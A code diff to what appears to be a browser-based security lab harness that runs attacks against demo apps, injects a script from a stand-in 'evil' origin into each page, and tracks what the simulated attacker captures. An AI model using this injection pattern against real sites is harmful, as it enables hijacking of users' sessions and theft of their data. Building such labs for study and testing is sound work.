@@ -14,13 +14,15 @@ export interface LabBrowser {
   newContext(): Promise<{ newPage(): Promise<Page>; close(): Promise<unknown> }>
 }
 
-/** Runs every attack on every app in a browser; each app gets a fresh profile. */
+/** Runs every attack on every app in a browser; each app gets a fresh profile. `look` sees the lab before it closes. */
 export async function runHeadless(
   browser: LabBrowser,
+  look: (lab: Lab) => Promise<void> = async () => {},
 ): Promise<{ rows: readonly Row[]; exchanges: Lab['attacker']['exchanges'] }> {
   const lab = await startLab()
   try {
     for (const app of appNames) await attackInBrowser(lab, browser, app)
+    await look(lab)
     return { rows: [...lab.rows.values()], exchanges: lab.attacker.exchanges }
   } finally {
     await lab.close()
@@ -37,7 +39,7 @@ async function attackInBrowser(lab: Lab, browser: LabBrowser, app: AppName): Pro
     await page.waitForSelector('#account:has-text("ada has")')
     await page.addScriptTag({ url: `${originOf(lab.places, 'evil')}/payload.js` })
     await page.click('#refresh')
-    await until(() => hasRidden(lab, app), `${app}: the script did not come home`)
+    await until(() => lab.attacker.isScriptHome(app), `${app}: the script did not come home`)
     await page.close()
 
     await lab.attack(app)
@@ -52,14 +54,6 @@ async function attackInBrowser(lab: Lab, browser: LabBrowser, app: AppName): Pro
   } finally {
     await context.close()
   }
-}
-
-function hasRidden({ attacker }: Lab, app: AppName): boolean {
-  const rode = (method: string) =>
-    attacker.lootOf(app, 'hook').some((loot) => loot.method === method && loot.url?.includes('/api/') === true)
-  return (
-    rode('GET') && rode('POST') && attacker.lootOf(app, 'backend').length === 3 && attacker.lootOf(app, 'new flow').length > 0
-  )
 }
 
 async function until(condition: () => boolean, trouble: string): Promise<void> {
